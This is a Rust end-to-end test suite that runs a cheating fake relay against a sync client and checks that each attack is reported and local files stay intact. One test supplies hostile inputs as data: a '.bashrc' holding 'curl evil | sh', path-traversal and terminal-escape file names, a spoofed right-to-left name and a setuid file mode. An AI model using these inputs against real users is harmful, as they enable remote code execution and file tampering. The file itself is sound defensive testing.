//! A relay that cheats (the scriptable fake relay of `e2e_tests::fake_relay`,
//! alone or in front of a real relay) against the real `sync-cli`: every
//! attack ends with the documented event or a clear error, bounded memory
//! and time, and no local file damaged (issue 11, items 1, 2 and 3).
//!
//! Blobs a hostile *member* would send are sealed here with the group's
//! keys (the relay alone cannot forge them); the relay's own tricks —
//! reordering, relabelling cursors, lying in `Welcome`, endless answers,
//! huge retry hints — need no key.

use e2e_tests::fake_relay::{FakeRelay, Reply, Script};
use e2e_tests::member::{device_behind, device_with_keys, file_kind, sealed, serve};
use e2e_tests::{Device, RelayProcess, init_pair, ndjson, random_bytes};
use std::path::Path;
use std::sync::{Arc, Mutex};
use sync_client::client::MAX_CHUNK_BLOB_SIZE;
use sync_client::crypto::envelope::{BlobHeader, BlobKind, Compression, FileVersion, seal};
use sync_client::crypto::view::{GroupView, MAX_VIEW_ENTRIES, ViewEntry};
use sync_client::integrity::{MAX_RANGES, MAX_SEQ};
use sync_client::withheld::MAX_CLAIMED_SENDERS;
use sync_protocol::{
    DeviceId, ErrorCode, ErrorMsg, Message, PullBatch, PulledBlob, PushOk, PushResult,
};

/// Every file under `dir` (recursively) with its content.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let meta = std::fs::symlink_metadata(e.path()).unwrap();
        let name = e.file_name().to_string_lossy().into_owned();
        if meta.is_dir() {
            for (n, c) in snapshot(&e.path()) {
                out.push((format!("{name}/{n}"), c));
            }
        } else if meta.is_file() {
            out.push((name, std::fs::read(e.path()).unwrap()));
        } else {
            out.push((name, b"<symlink>".to_vec()));
        }
    }
    out.sort();
    out
}

/// A directory with files a person cares about.
fn precious(dir: &Path) -> Vec<(String, Vec<u8>)> {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("note.txt"), b"my own words").unwrap();
    std::fs::write(dir.join(".bashrc"), b"alias ll='ls -l'\n").unwrap();
    snapshot(dir)
}

/// Run `cmd` to the end, killing it (and failing the test) if it is still
/// running after a generous minute: an attack must not hold the device.
fn finish_within_a_minute(mut cmd: std::process::Command) -> std::process::Output {
    use std::process::Stdio;
    let child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    match rx.recv_timeout(std::time::Duration::from_secs(60)) {
        Ok(out) => out.unwrap(),
        Err(_) => {
            let _ = std::process::Command::new("kill")
                .args(["-9", &pid.to_string()])
                .status();
            let out = rx.recv().unwrap().unwrap();
            panic!(
                "still running after a minute:\n{}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
}

/// `sync-cli ARGS` for `device`, to its end (see [`finish_within_a_minute`]).
async fn run_cli(device: &Device, args: &[&str]) -> std::process::Output {
    let mut cmd = device.cmd();
    cmd.args(args);
    tokio::task::spawn_blocking(move || finish_within_a_minute(cmd))
        .await
        .unwrap()
}

fn text(out: &std::process::Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_4_gib_blob_size_in_welcome_costs_no_4_gib() {
    // The relay announces u32::MAX for max_blob_size and max_frame. The
    // pushing CLI runs with 1 GiB of address space: reserving a chunk
    // buffer of the announced size would abort it.
    let largest = Arc::new(Mutex::new(0usize));
    let seen = Arc::clone(&largest);
    let fake = FakeRelay::alone(
        Script::new()
            .on_welcome(|w| {
                w.max_blob_size = u32::MAX;
                w.max_frame = u32::MAX;
            })
            .on_request(move |_, req| match req {
                Message::Push(push) => {
                    let mut l = seen.lock().unwrap();
                    for item in &push.items {
                        *l = (*l).max(item.payload.len());
                    }
                    Reply::Answer(vec![Message::PushOk(PushOk {
                        results: push
                            .items
                            .iter()
                            .zip(1..)
                            .map(|(i, cursor)| PushResult {
                                blob_id: i.blob_id,
                                cursor,
                                duplicate: false,
                            })
                            .collect(),
                        head: push.items.len() as u64,
                    })])
                }
                _ => Reply::Forward,
            }),
    )
    .await;
    let (a, _) = device_behind(&fake);
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("data.bin");
    std::fs::write(&file, random_bytes(100_000)).unwrap();
    let home = a.home.clone();
    let mut cmd = std::process::Command::new("sh");
    cmd.arg("-c").arg(format!(
        "ulimit -v 1048576; exec '{}' --home '{}' push --retry-for 10s '{}'",
        e2e_tests::bin("sync-cli").display(),
        home.display(),
        file.display()
    ));
    let out = tokio::task::spawn_blocking(move || finish_within_a_minute(cmd))
        .await
        .unwrap();
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let l = *largest.lock().unwrap();
    assert!(l > 100_000 && l <= MAX_CHUNK_BLOB_SIZE, "{l}");
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_49_day_retry_hint_ends_with_the_commands_time_budget() {
    // Every pull is refused as RATE_LIMITED "for 49 days": the CLI gives
    // up when its --retry-for is spent, says why, and touches nothing.
    let fake = FakeRelay::alone(Script::new().on_request(|_, req| match req {
        Message::Pull(_) => {
            let mut e = ErrorMsg::new(ErrorCode::RateLimited, "slow down");
            e.retry_after_ms = Some(u32::MAX);
            Reply::Answer(vec![Message::Error(e)])
        }
        _ => Reply::Forward,
    }))
    .await;
    let (a, _) = device_behind(&fake);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("out");
    let before = precious(&dir);
    let out = run_cli(
        &a,
        &["pull", "--retry-for", "2s", "--out", dir.to_str().unwrap()],
    )
    .await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(stderr.contains("RATE_LIMITED"), "{stderr}");
    assert!(
        stderr.contains("hint: the relay asks this device to slow down"),
        "{stderr}"
    );
    assert_eq!(snapshot(&dir), before);
    assert_eq!(
        fake.requests(),
        2,
        "one pull, repeated once after the capped wait"
    );
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn endless_empty_batches_end_the_pull_with_an_error() {
    let fake = FakeRelay::alone(Script::new().on_request(|_, req| {
        match req {
            Message::Pull(_) => Reply::Stream(Box::new(
                std::iter::repeat_with(|| {
                    Message::PullBatch(PullBatch {
                        blobs: Vec::new(),
                        head: 1_000,
                        more: true,
                    })
                })
                .take(1_000_000),
            )),
            _ => Reply::Forward,
        }
    }))
    .await;
    let (a, _) = device_behind(&fake);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("out");
    let before = precious(&dir);
    let out = run_cli(&a, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(stderr.contains("empty batches in a row"), "{stderr}");
    assert!(fake.frames_sent() < 1_000_000, "the device stopped reading");
    assert_eq!(snapshot(&dir), before);
    let state = std::fs::read_to_string(a.home.join("state.json")).unwrap_or_default();
    assert!(
        !state.contains("\"cursor\": 1000"),
        "the cursor did not move: {state}"
    );
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_sequence_numbers_and_voids_keep_the_state_small() {
    // A hostile member: numbers that overflow `seq + 1`, a number beyond
    // the cap, three voids of a million numbers each far ahead, and 1,100
    // messages leaving a hole between each two.
    let (a, keys) = device_with_keys();
    let evil = DeviceId([0xee; 32]);
    let mut blobs = Vec::new();
    let mut push = |seq: u64, kind: BlobKind| {
        let cursor = blobs.len() as u64 + 1;
        blobs.push(sealed(&keys, evil, cursor, seq, kind, b"x"));
    };
    push(1, BlobKind::Message);
    push(u64::MAX, BlobKind::Message);
    push(u64::MAX - 1, BlobKind::Message);
    push(sync_client::integrity::MAX_SEQ + 1, BlobKind::Message);
    for k in 0..3u64 {
        let first = (1 << 40) + k * (1 << 21);
        push(
            first + (1 << 20),
            BlobKind::Void {
                file_id: None,
                first_seq: first,
                last_seq: first + (1 << 20) - 1,
            },
        );
    }
    for i in 0..1_100u64 {
        push(10 + 2 * i, BlobKind::Message);
    }
    let blobs = Arc::new(blobs);
    let served = Arc::clone(&blobs);
    let fake = FakeRelay::alone(Script::new().on_request(move |_, req| serve(&served, req))).await;
    a.set_relay(&fake.address);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("out");
    let before = precious(&dir);
    let out = run_cli(&a, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let rejected: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] == "rejected")
        .map(|e| e["reason"].as_str().unwrap())
        .collect();
    let out_of_range = rejected
        .iter()
        .filter(|r| r.contains("out of range"))
        .count();
    assert_eq!(out_of_range, 3, "{rejected:?}");
    assert!(
        rejected
            .iter()
            .any(|r| r.contains("too many separate ranges")),
        "{rejected:?}"
    );
    let done = events.last().unwrap();
    assert_eq!(done["event"], "done");
    assert_eq!(done["cursor"], blobs.len() as u64);
    let state = std::fs::read(a.home.join("state.json")).unwrap();
    assert!(
        state.len() < 64 * MAX_RANGES,
        "state.json is {} bytes",
        state.len()
    );
    assert_eq!(snapshot(&dir), before);
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_modes_and_a_dotfile_never_touch_local_files() {
    let (a, keys) = device_with_keys();
    let evil = DeviceId([0xee; 32]);
    let v = |l: u8| {
        Some(FileVersion {
            lineage: [l; 16],
            generation: 1,
            device: Some("evil".into()),
        })
    };
    let files: [(&str, &[u8], u32); 8] = [
        ("\x1b]2;pwned\x07.txt", b"escape", 0o644),
        ("\x1b[2J\x1b[1;1H", b"clear screen", 0o644),
        ("..", b"up", 0o644),
        ("a/../../escape.txt", b"escape", 0o644),
        ("\u{202E}txt.exe", b"spoof", 0o644),
        (
            ".0k-sync-00000000000000000000000000000000.part",
            b"temp",
            0o644,
        ),
        (".bashrc", b"curl evil | sh\n", 0o644),
        ("tool", b"#!/bin/sh\n", 0o6777),
    ];
    let blobs: Vec<PulledBlob> = files
        .iter()
        .enumerate()
        .map(|(i, (name, content, mode))| {
            let n = i as u64 + 1;
            sealed(
                &keys,
                evil,
                n,
                n,
                file_kind(name, content, *mode, v(i as u8)),
                content,
            )
        })
        .collect();
    let fake = FakeRelay::alone(Script::new().on_request(move |_, req| serve(&blobs, req))).await;
    a.set_relay(&fake.address);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("home");
    let mut before = precious(&dir);
    let out = run_cli(&a, &["pull", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        !stdout.contains('\x1b') && !stderr.contains('\x1b'),
        "no escape sequence reaches the terminal: {stdout:?} {stderr:?}"
    );
    assert_eq!(stderr.matches("rejected").count(), 6, "{stderr}");
    // Nothing outside the directory; the user's files as they were; the
    // received .bashrc beside the user's; `tool` without setuid or
    // group/other write.
    assert_eq!(
        snapshot(tmp.path()).len(),
        before.len() + 2,
        "{:?}",
        snapshot(tmp.path())
    );
    let after = snapshot(&dir);
    for (name, content) in &before {
        assert!(
            after.contains(&(name.clone(), content.clone())),
            "{name} changed"
        );
    }
    let conflict = after
        .iter()
        .find(|(n, _)| n.starts_with(".bashrc (conflict evil "))
        .expect("the received .bashrc saved beside");
    assert_eq!(conflict.1, b"curl evil | sh\n");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(dir.join("tool"))
        .unwrap()
        .permissions()
        .mode()
        & 0o7777;
    assert_eq!(mode & 0o7022, 0, "{mode:o}");
    before.push(("tool".into(), b"#!/bin/sh\n".to_vec()));
    before.push(conflict.clone());
    before.sort();
    assert_eq!(after, before);
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_remote_file_never_replaces_a_local_edit_through_a_forwarding_relay() {
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let fake = FakeRelay::forwarding(&relay.address, keys, Script::new()).await;
    b.set_relay(&fake.address);
    let src = tmp.path().join("a");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("note.txt"), b"A's version").unwrap();
    a.run(&["push", src.join("note.txt").to_str().unwrap()]);
    let dir = tmp.path().join("b");
    let before = precious(&dir);
    let events = ndjson(&b.run(&["pull", "--json", "--out", dir.to_str().unwrap()]));
    let conflict = events
        .iter()
        .find(|e| e["event"] == "conflict")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(conflict["name"], "note.txt");
    let saved = Path::new(conflict["path"].as_str().unwrap());
    assert_eq!(std::fs::read(saved).unwrap(), b"A's version");
    let after = snapshot(&dir);
    for entry in &before {
        assert!(after.contains(entry), "{} changed", entry.0);
    }
    assert_eq!(after.len(), before.len() + 1);
    assert_eq!(events.last().unwrap()["conflicts"], 1);
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn version_2_then_version_1_in_one_pull_keeps_version_2() {
    // A pushes note.txt twice (version 1, then its edit). The relay hands
    // them to B newest first, relabelling the cursors so they still
    // increase: B keeps version 2 and reports version 1 as outdated.
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let src = tmp.path().join("a");
    std::fs::create_dir_all(&src).unwrap();
    let note = src.join("note.txt");
    std::fs::write(&note, b"version 1").unwrap();
    a.run(&["push", note.to_str().unwrap()]);
    std::fs::write(&note, b"version 2, edited").unwrap();
    a.run(&["push", note.to_str().unwrap()]);
    let reversed = Script::new().on_response(|_, frame| match frame {
        Message::PullBatch(mut batch) => {
            let cursors: Vec<u64> = batch.blobs.iter().map(|b| b.cursor).collect();
            batch.blobs.reverse();
            for (blob, cursor) in batch.blobs.iter_mut().zip(cursors) {
                blob.cursor = cursor;
            }
            vec![Message::PullBatch(batch)]
        }
        other => vec![other],
    });
    let fake = FakeRelay::forwarding(&relay.address, keys, reversed).await;
    b.set_relay(&fake.address);
    let dir = tmp.path().join("b");
    let events = ndjson(&b.run(&["pull", "--json", "--out", dir.to_str().unwrap()]));
    let kinds: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] != "progress")
        .map(|e| e["event"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["file", "outdated", "done"], "{events:#?}");
    assert_eq!(
        std::fs::read(dir.join("note.txt")).unwrap(),
        b"version 2, edited"
    );
    assert_eq!(snapshot(&dir).len(), 1);
    fake.close().await;
}

/// This device's node id.
fn device_id(d: &Device) -> DeviceId {
    let key = sync_client::Home::at(&d.home).device_key().unwrap();
    DeviceId(*key.public().as_bytes())
}

/// A third device joining the group of `a`.
fn join(a: &Device, relay: &str) -> Device {
    let c = Device::new();
    let invite = e2e_tests::json(&a.run(&["invite", "--json"]))["invite"]
        .as_str()
        .unwrap()
        .to_string();
    c.join(a, &invite, &[]);
    c.set_relay(relay);
    c
}

/// Push `content` as `name` from `d`; returns the cursor of its (one) blob.
fn push_one(d: &Device, dir: &Path, name: &str, content: &[u8]) -> u64 {
    let path = dir.join(name);
    std::fs::write(&path, content).unwrap();
    let out = e2e_tests::json(&d.run(&["push", "--json", path.to_str().unwrap()]));
    let file = &out["files"][0];
    assert_eq!(file["first_cursor"], file["last_cursor"], "{out}");
    file["last_cursor"].as_u64().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blob_relabelled_as_the_devices_own_is_reported_not_skipped() {
    // A member's blob, which the relay says this device sent. Trusting the
    // label, the device used to skip it unopened and say nothing.
    let (a, keys) = device_with_keys();
    let evil = DeviceId([0xee; 32]);
    let mut blob = sealed(
        &keys,
        evil,
        1,
        1,
        file_kind("hidden.txt", b"you never saw me", 0o644, None),
        b"you never saw me",
    );
    blob.sender = device_id(&a);
    let blobs = vec![blob];
    let fake = FakeRelay::alone(Script::new().on_request(move |_, req| serve(&blobs, req))).await;
    a.set_relay(&fake.address);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("out");
    let out = run_cli(&a, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let rejected = events
        .iter()
        .find(|e| e["event"] == "rejected")
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert_eq!(rejected["cursor"], 1);
    let reason = rejected["reason"].as_str().unwrap();
    assert!(
        reason.contains(&hex::encode(evil.0)) && reason.contains("relay says"),
        "{reason}"
    );
    assert_eq!(events.last().unwrap()["rejected"], 1);
    let status = e2e_tests::json(&a.run(&["status", "--json", "--retry-for", "2s"]));
    assert_eq!(status["rejected_blobs"], 1, "{status}");
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_withheld_newest_blob_is_revealed_by_a_later_view() {
    // X (device a) pushes two files; Y (device c) pulls both and pushes a
    // file of its own. The relay hides X's newest blob from device b: no
    // later blob of X shows a gap, but Y's view says "X up to 2".
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let c = join(&a, &relay.address);
    let src = tmp.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    push_one(&a, &src, "one.txt", b"first");
    let hidden = push_one(&a, &src, "two.txt", b"second, withheld");
    let c_dir = tmp.path().join("c");
    c.run(&["pull", "--out", c_dir.to_str().unwrap()]);
    push_one(&c, &src, "from-y.txt", b"y's file");

    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let drop_hidden = Script::new().on_response(move |_, frame| match frame {
        Message::PullBatch(mut batch) => {
            batch.blobs.retain(|blob| blob.cursor != hidden);
            vec![Message::PullBatch(batch)]
        }
        other => vec![other],
    });
    let fake = FakeRelay::forwarding(&relay.address, keys, drop_hidden).await;
    b.set_relay(&fake.address);
    let dir = tmp.path().join("b");
    let out = run_cli(&b, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let (x, y) = (hex::encode(device_id(&a).0), hex::encode(device_id(&c).0));
    let withheld: Vec<&serde_json::Value> =
        events.iter().filter(|e| e["event"] == "withheld").collect();
    assert_eq!(
        withheld,
        // A's numbers 1 and 2 are the roster blobs that added B and C (its
        // answers to their joins), so two.txt is number 4.
        [&serde_json::json!({
            "event": "withheld", "sender": x, "first": 4, "last": 4, "claimed_by": y,
        })],
        "{events:#?}"
    );
    assert!(!events.iter().any(|e| e["event"] == "gap"), "{events:#?}");
    assert_eq!(events.last().unwrap()["withheld"], 1);
    assert_eq!(std::fs::read(dir.join("one.txt")).unwrap(), b"first");
    assert!(!dir.join("two.txt").exists());

    // A person sees it too, in `pull` and in `status`.
    let out = run_cli(&b, &["pull", "--out", dir.to_str().unwrap()]).await;
    let (_, stderr) = text(&out);
    assert!(
        stderr.contains("blobs 4..=4 of device") && stderr.contains("withheld"),
        "{stderr}"
    );
    let status = e2e_tests::json(&b.run(&["status", "--json"]));
    assert_eq!(status["withheld"][0]["sender"], x, "{status}");
    assert_eq!(status["withheld"][0]["claimed_by"], y, "{status}");
    let human = b.run(&["status"]);
    assert!(human.contains("1 withheld"), "{human}");
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_empty_answer_with_head_u64_max_does_not_poison_the_cursor() {
    // The relay answers b's pull with nothing and head u64::MAX. Saved, that
    // head would hide every blob below it for good, and an honest relay
    // would refuse b's pulls from it (INVALID_MESSAGE).
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let src = tmp.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    push_one(&a, &src, "one.txt", b"first");
    push_one(&a, &src, "two.txt", b"second");
    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let lie = Script::new().on_request(|_, req| match req {
        Message::Pull(_) => Reply::Answer(vec![Message::PullBatch(PullBatch {
            blobs: Vec::new(),
            head: u64::MAX,
            more: false,
        })]),
        _ => Reply::Forward,
    });
    let fake = FakeRelay::forwarding(&relay.address, keys, lie).await;
    b.set_relay(&fake.address);
    let dir = tmp.path().join("b");
    let out = run_cli(&b, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let done = ndjson(&stdout).pop().unwrap();
    assert_eq!(done["cursor"], 0, "{done}");
    let state = std::fs::read_to_string(b.home.join("state.json")).unwrap();
    let saved: serde_json::Value = serde_json::from_str(&state).unwrap();
    assert_eq!(saved["cursor"], 0, "{state}");
    fake.close().await;

    b.set_relay(&relay.address);
    let events = ndjson(&b.run(&["pull", "--json", "--out", dir.to_str().unwrap()]));
    let files: Vec<&str> = events
        .iter()
        .filter(|e| e["event"] == "file")
        .map(|e| e["name"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["one.txt", "two.txt"], "{events:#?}");
    assert_eq!(std::fs::read(dir.join("two.txt")).unwrap(), b"second");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_views_keep_the_state_small() {
    // A member's 300 messages each carry a full view of made-up devices at
    // the largest number allowed: 9,600 senders never heard from, each
    // "withheld" from 1 to 2^62.
    let (a, keys) = device_with_keys();
    let evil = DeviceId([0xee; 32]);
    let blobs: Vec<PulledBlob> = (1..=300u64)
        .map(|n| {
            let view = GroupView::new(
                (0..MAX_VIEW_ENTRIES as u64)
                    .map(|i| {
                        let mut d = [0u8; 32];
                        d[..8].copy_from_slice(&(n * 1000 + i).to_be_bytes());
                        ViewEntry {
                            device: DeviceId(d),
                            seq: MAX_SEQ,
                        }
                    })
                    .collect(),
            )
            .unwrap();
            let mut blob = sealed(&keys, evil, n, n, BlobKind::Message, b"x");
            let header = BlobHeader {
                kind: BlobKind::Message,
                sender: evil,
                seq: n,
                created_at_ms: 1,
                compression: Compression::None,
                body_len: 0,
                view,
            };
            blob.payload = seal(&keys, &blob.blob_id, header, b"x", 1 << 20).unwrap();
            blob
        })
        .collect();
    let fake = FakeRelay::alone(Script::new().on_request(move |_, req| serve(&blobs, req))).await;
    a.set_relay(&fake.address);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("out");
    let out = run_cli(&a, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let withheld = events.iter().filter(|e| e["event"] == "withheld").count();
    assert_eq!(withheld, MAX_CLAIMED_SENDERS);
    let done = events.last().unwrap();
    assert_eq!(done["withheld"], MAX_CLAIMED_SENDERS as u64);
    assert_eq!(done["cursor"], 300);
    let state = std::fs::read(a.home.join("state.json")).unwrap();
    assert!(
        state.len() < 400 * (MAX_CLAIMED_SENDERS + 1),
        "state.json is {} bytes",
        state.len()
    );
    fake.close().await;
}

/// A relay that hides A's blob at `hidden` from `b` behind a no-echo
/// marker: an empty payload labelled as `b`'s own (docs/protocol.md
/// "Version 2: no echo"); `version` is the `Welcome` version b is given.
fn marker_in_place_of(hidden: u64, b: DeviceId, version: Option<u16>) -> Script {
    let script = Script::new().on_response(move |_, frame| match frame {
        Message::PullBatch(mut batch) => {
            for blob in &mut batch.blobs {
                if blob.cursor == hidden {
                    blob.sender = b;
                    blob.payload = Vec::new();
                }
            }
            vec![Message::PullBatch(batch)]
        }
        other => vec![other],
    });
    match version {
        Some(v) => script.on_welcome(move |w| w.version = v),
        None => script,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blob_hidden_behind_a_no_echo_marker_is_reported_as_a_gap() {
    // No echo lets the relay send "this cursor was yours" with no payload.
    // Used on another device's blob, that is withholding it: the device
    // skips it, and the sender's next blob shows the gap.
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let src = tmp.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    push_one(&a, &src, "one.txt", b"first");
    let hidden = push_one(&a, &src, "two.txt", b"second, hidden");
    push_one(&a, &src, "three.txt", b"third");
    // b's own blob (cursor 5) reaches b whole through the fake (whose
    // upstream session has another node id) and is not applied again.
    push_one(&b, &src, "mine.txt", b"b's own");
    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let fake = FakeRelay::forwarding(
        &relay.address,
        keys,
        marker_in_place_of(hidden, device_id(&b), None),
    )
    .await;
    b.set_relay(&fake.address);
    let dir = tmp.path().join("b");
    let out = run_cli(&b, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let x = hex::encode(device_id(&a).0);
    let gaps: Vec<&serde_json::Value> = events.iter().filter(|e| e["event"] == "gap").collect();
    assert_eq!(
        gaps,
        // A's number 1 is the roster blob that added B (its answer to
        // B's join), so two.txt is number 3.
        [&serde_json::json!({"event": "gap", "sender": x, "first": 3, "last": 3})],
        "{events:#?}"
    );
    assert!(
        !events.iter().any(|e| e["event"] == "rejected"),
        "{events:#?}"
    );
    assert_eq!(std::fs::read(dir.join("one.txt")).unwrap(), b"first");
    assert_eq!(std::fs::read(dir.join("three.txt")).unwrap(), b"third");
    assert!(!dir.join("two.txt").exists());
    assert!(
        !dir.join("mine.txt").exists(),
        "b's own file is not written back"
    );
    let done = events.last().unwrap();
    // Cursor 1 is A's roster blob that added B.
    assert_eq!(
        done["cursor"], 5,
        "the cursor moves past b's own blob: {done}"
    );
    let status = e2e_tests::json(&b.run(&["status", "--json", "--retry-for", "2s"]));
    assert_eq!(status["rejected_blobs"], 0, "{status}");
    fake.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_no_echo_marker_on_a_version_1_session_is_rejected() {
    // Markers exist only on version-2 sessions: on a version-1 session an
    // empty payload is a blob that does not open.
    let tmp = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(&tmp.path().join("relay"));
    let (a, b) = init_pair(&relay);
    let src = tmp.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    let hidden = push_one(&a, &src, "one.txt", b"first");
    let keys = sync_client::Home::at(&b.home).secret().unwrap().keys();
    let fake = FakeRelay::forwarding(
        &relay.address,
        keys,
        marker_in_place_of(hidden, device_id(&b), Some(1)),
    )
    .await;
    b.set_relay(&fake.address);
    let dir = tmp.path().join("b");
    let out = run_cli(&b, &["pull", "--json", "--out", dir.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}\n{stderr}");
    let events = ndjson(&stdout);
    let rejected: Vec<&serde_json::Value> =
        events.iter().filter(|e| e["event"] == "rejected").collect();
    assert_eq!(rejected.len(), 1, "{events:#?}");
    assert_eq!(rejected[0]["cursor"], hidden);
    fake.close().await;
}
